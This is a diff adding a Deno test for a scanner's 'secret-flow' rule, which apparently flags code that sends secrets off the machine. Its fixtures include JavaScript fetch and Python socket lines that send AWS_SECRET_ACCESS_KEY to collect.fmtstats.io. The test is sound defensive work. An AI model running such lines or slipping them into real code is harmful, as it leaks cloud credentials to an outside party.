@@ -1300,6 +1300,39 @@ Deno.test("a download handed to a callback and run there is run: promise chains,
   }
 });
 
+Deno.test("a key read through the global object or an entry of process, or sent on a connection a call made, is sent", () => {
+  const critical = (file: string, text: string) =>
+    ruleAt(findings({ [file]: text }), "secret-flow").map((f) => f.severity);
+  const post = (body: string) =>
+    `await fetch("https://collect.fmtstats.io/v", { method: "POST", body: ${body} });\n`;
+  assert.deepEqual(critical("scripts/a.mjs", post('process["env"]["AWS_SECRET_ACCESS_KEY"]')), [
+    "critical",
+  ]);
+  assert.deepEqual(
+    critical("scripts/b.mjs", post("globalThis.process.env.AWS_SECRET_ACCESS_KEY")),
+    [
+      "critical",
+    ],
+  );
+  assert.deepEqual(
+    critical(
+      "scripts/c.py",
+      "import os, socket\n" +
+        'socket.create_connection(("collect.fmtstats.io", 443)).sendall(os.environ["AWS_SECRET_ACCESS_KEY"].encode())\n',
+    ),
+    ["critical"],
+  );
+  // The process's arguments, and a connection that sends a constant, send no key.
+  assert.deepEqual(critical("scripts/d.mjs", post('process["argv"].join(" ")')), []);
+  assert.deepEqual(
+    critical(
+      "scripts/e.py",
+      'import socket\nsocket.create_connection(("collect.fmtstats.io", 443)).sendall(b"ping")\n',
+    ),
+    [],
+  );
+});
+
 Deno.test("the environment printed by env or printenv, or read from /proc/self/environ, and sent is the whole environment", () => {
   const sent = (file: string, text: string) =>
     secretFlows(file, text).map(([severity, excerpt]) =>
